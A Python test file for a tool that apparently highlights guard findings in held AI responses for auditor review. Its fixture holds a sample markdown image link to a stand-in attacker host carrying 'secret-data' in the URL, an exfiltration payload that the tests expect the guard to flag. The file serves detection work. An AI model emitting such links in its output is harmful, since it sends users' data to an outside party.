"""Guard findings marked at their spans in a held response."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from sai.guards import Span
from sai.web.highlight import Piece, find_spans, pieces
from tests.web.conftest import Console

HELD = "You said: ![x](https://attacker.example/c?d=secret-data) thanks"


def test_exfiltration_link_is_found() -> None:
    spans = find_spans(HELD, ["exfiltration", "not-a-guard"], {})
    assert spans
    marked = "".join(HELD[s.start : s.end] for s in spans)
    assert "attacker.example" in marked
    assert "You said" not in marked


def test_pieces_merge_overlaps_and_keep_the_text() -> None:
    spans = [Span(2, 5, "a"), Span(4, 7, "b"), Span(9, 10, "c")]
    out = pieces("0123456789xyz", spans)
    assert out == [
        Piece("01"),
        Piece("23456", "a, b"),
        Piece("78"),
        Piece("9", "c"),
        Piece("xyz"),
    ]


@given(
    st.text(max_size=40),
    st.lists(st.tuples(st.integers(0, 50), st.integers(0, 50)), max_size=6),
)
def test_pieces_always_rebuild_the_text(text: str, bounds: list[tuple[int, int]]) -> None:
    spans = [Span(min(a, b), max(a, b), "x") for a, b in bounds]
    out = pieces(text, spans)
    assert "".join(p.text for p in out) == text
    assert all(p.text for p in out) or text == ""


def test_review_page_marks_the_finding(console: Console) -> None:
    review_id = console.hold()
    with console.signed_in("auditor") as http:
        page = http.get(f"/reviews/{review_id}").text
    assert '<mark title="' in page
    marked = page.split("<mark title=", 1)[1].split("</mark>", 1)[0]
    assert "attacker.example" in marked
